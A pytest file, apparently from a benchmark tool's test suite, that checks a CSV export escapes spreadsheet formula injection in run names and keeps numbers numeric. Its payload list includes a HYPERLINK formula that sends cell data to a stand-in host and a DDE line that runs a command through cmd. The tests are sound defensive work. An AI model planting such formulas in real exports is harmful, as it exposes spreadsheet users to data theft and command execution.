"""A name in a study or a log is a formula, which the spreadsheet of whoever opens runs.csv computes."""

import csv
import io

import pytest
from ironbench.report.exports import runs_csv

from tests.made import replace

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_is_no_formula(full, formula):
    _, results, _, _ = full
    first = replace(results.runs[0], experiment=formula, variant=formula, why_not=formula, placement=formula)
    (row,) = csv.DictReader(io.StringIO(runs_csv(replace(results, runs=[first]))))
    for column in ("experiment", "variant", "why_not", "placement"):
        assert row[column].startswith("'"), column
        assert formula.strip("\r\n") in row[column], column


def test_numbers_stay_numbers(full):
    _, results, _, _ = full
    name = next(iter(results.runs[0].figures))
    first = replace(results.runs[0], figures=results.runs[0].figures | {name: -1.5})
    (row,) = csv.DictReader(io.StringIO(runs_csv(replace(results, runs=[first]))))
    assert row[name] == "-1.5"
    assert "'" not in "".join(row.values())
